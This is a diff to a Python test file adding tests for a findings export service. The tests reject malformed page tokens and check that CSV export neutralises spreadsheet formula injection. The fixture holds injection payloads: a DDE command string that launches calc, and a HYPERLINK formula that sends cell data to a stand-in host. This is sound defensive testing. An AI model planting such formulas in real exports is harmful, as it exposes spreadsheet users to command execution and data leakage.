@@ -4,6 +4,7 @@ page is bounded, what a page token is tied to; and the export encoders' files.""
 from __future__ import annotations
 
 import asyncio
+import base64
 import csv
 import io
 import json
@@ -73,6 +74,27 @@ def test_a_page_token_holds_only_for_its_filter_and_order() -> None:
             findings.cursor_of(query, forged)
 
 
+def _b64(text: str) -> str:
+    return base64.urlsafe_b64encode(text.encode()).decode()
+
+
+def test_a_tampered_page_token_is_an_invalid_argument_never_an_internal_error() -> None:
+    query = Query.of("wf-1", pb.FindingsFilter())
+    q = json.dumps(query.fingerprint())
+    tampered = [
+        _b64("[" * 700 + "]" * 700),  # nested as deep as a token's length allows
+        _b64("[" * 100_000),  # past the parser's recursion
+        _b64(f'{{"q": {q}, "k": [{10**30}, 1, 2], "t": 1}}'),  # past what the database compares
+        _b64(f'{{"q": {q}, "k": [1, 2, 3], "t": {10**30}}}'),
+        _b64(f'{{"q": {q}, "k": [1e400, 1, 2], "t": 1}}'),  # a float, infinite
+        _b64(f'{{"q": {q}, "k": [true, 1, 2], "t": 1}}'),
+        _b64(f'{{"q": {q}, "k": [{"9" * 5000}, 1, 2], "t": 1}}'),  # past int()'s digits
+    ]
+    for token in tampered:
+        with pytest.raises(InvalidArgument, match="page_token"):
+            findings.cursor_of(query, token)
+
+
 @pytest.mark.parametrize(
     ("filter_", "field"),
     [
@@ -124,6 +146,27 @@ def test_each_export_format_round_trips_every_field() -> None:
     table = pq.read_table(io.BytesIO(file_of("parquet", TRICKY[:1], TRICKY[1:])))
     assert table.column("entry_ids").to_pylist() == [["A,1", 'B"2'], []]
     assert table.column("explanation").to_pylist()[0] == TRICKY[0].explanation
+
+
+FORMULAS = pb.Finding(
+    finding_id="\rf3",
+    step=3,
+    procedure="+cmd|' /C calc'!A0",
+    severity="@SUM(1+1)",
+    entry_ids=["-2+3"],
+    entry_count=1,
+    amount="\t=1+1",
+    explanation='=HYPERLINK("http://x.example/?"&A1,"click")',
+)
+
+
+def test_a_csv_cell_a_spreadsheet_would_run_reads_back_as_text() -> None:
+    rows = list(csv.DictReader(io.StringIO(file_of("csv", [FORMULAS, TRICKY[0]]).decode(), newline="")))
+    for column in ("finding_id", "procedure", "severity", "amount", "entry_ids", "explanation"):
+        original = " ".join(FORMULAS.entry_ids) if column == "entry_ids" else getattr(FORMULAS, column)
+        assert rows[0][column] == "'" + original, column
+    assert rows[1]["amount"] == "-10.50"  # a number is no formula
+    assert json.loads(file_of("json", [FORMULAS]))[0]["explanation"] == FORMULAS.explanation
 
 
 def test_an_export_of_nothing_is_a_valid_empty_file() -> None:
